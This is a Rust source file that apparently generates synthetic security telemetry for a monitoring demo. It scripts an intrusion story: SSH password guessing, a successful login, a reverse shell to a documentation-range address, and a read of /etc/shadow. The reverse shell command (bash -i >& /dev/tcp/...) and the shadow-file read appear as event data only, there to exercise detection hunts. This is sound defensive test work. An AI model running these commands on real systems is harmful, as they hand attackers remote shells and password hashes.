//! One scripted intrusion in the last hour of the demo, whatever its size:
//! password guessing against a bastion from one address, a successful login,
//! a reverse shell back to that address, and a read of `/etc/shadow`. The
//! random telemetry has attacker behaviour too, but thinly spread over a day;
//! this makes every demo show the whole chain (and the demo hunts fire on it).

use std::net::{IpAddr, Ipv4Addr};

use chrono::{DateTime, Duration, Utc};
use serde_json::json;
use vigil_event::{Endpoint, Event, Kind, Process, Severity};

use crate::generate::Host;

/// The attacker (TEST-NET-3: documentation space, never a real host).
const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
/// Failed logons before the one that works.
const GUESSES: i32 = 30;

/// The story's events, ending 20 minutes before `end`, on the first bastion
/// of `hosts` (or the first host).
pub fn build(hosts: &[Host], end: DateTime<Utc>) -> Vec<Event> {
    let Some(target) = hosts.iter().find(|h| h.name.starts_with("bastion")).or(hosts.first()) else {
        return Vec::new();
    };
    let start = end - Duration::minutes(35);
    let victim = IpAddr::V4(target.ip);
    let attacker = IpAddr::V4(ATTACKER);
    let mut events = Vec::new();
    let at = |secs: i64, kind: Kind, source: &str, n: usize| {
        let mut e = Event::new(kind, source, start + Duration::seconds(secs), format!("demo-story:{n}").as_bytes());
        e.host = Some(target.name.clone());
        e
    };

    for i in 0..=GUESSES {
        let ok = i == GUESSES;
        let user = if ok { "deploy" } else { ["root", "admin", "deploy", "ubuntu"][i as usize % 4] };
        let port = 40_000 + i as u16;
        let mut e = at(i64::from(i) * 7, Kind::Auth, "sshd", events.len());
        e.activity_id = Some(1);
        e.status_id = Some(if ok { 1 } else { 2 });
        e.severity = if ok { Severity::Medium } else { Severity::Low };
        e.user = Some(user.into());
        e.src = Some(Endpoint { ip: attacker, port: Some(port) });
        e.dst = Some(Endpoint { ip: victim, port: Some(22) });
        e.protocol = Some("ssh".into());
        e.process = Some(Process { pid: Some(2_000 + i), name: Some("sshd".into()), ..Default::default() });
        e.message = if ok {
            format!("Accepted password for {user} from {attacker} port {port} ssh2")
        } else {
            format!("Failed password for {user} from {attacker} port {port} ssh2")
        };
        e.raw = json!({"line": e.message, "story": "demo intrusion"});
        events.push(e);
    }

    let shell = format!("bash -i >& /dev/tcp/{attacker}/4444 0>&1");
    for (secs, name, path, cmdline, pid) in
        [(300, "bash", "/usr/bin/bash", shell.as_str(), 4_801), (360, "cat", "/usr/bin/cat", "cat /etc/shadow", 4_802)]
    {
        let mut e = at(secs, Kind::Process, "vigil-agent", events.len());
        e.activity_id = Some(1);
        e.severity = Severity::High;
        e.user = Some("deploy".into());
        e.process = Some(Process {
            pid: Some(pid),
            ppid: Some(2_000 + GUESSES),
            name: Some(name.into()),
            path: Some(path.into()),
            cmdline: Some(cmdline.into()),
        });
        e.message = format!("process started by deploy: {cmdline}");
        e.raw = json!({"event": "exec", "pid": pid, "cmdline": cmdline, "user": "deploy", "story": "demo intrusion"});
        events.push(e);
    }

    let mut e = at(301, Kind::Network, "vigil-agent", events.len());
    e.activity_id = Some(1);
    e.severity = Severity::Medium;
    e.src = Some(Endpoint { ip: victim, port: Some(51_515) });
    e.dst = Some(Endpoint { ip: attacker, port: Some(4444) });
    e.protocol = Some("tcp".into());
    e.process = Some(Process { pid: Some(4_801), name: Some("bash".into()), ..Default::default() });
    e.message = format!("bash tcp {victim}:51515 -> {attacker}:4444 2100B/48000B");
    e.raw = json!({"bytes_out": 2100, "bytes_in": 48000, "state": "established", "story": "demo intrusion"});
    events.push(e);
    events
}
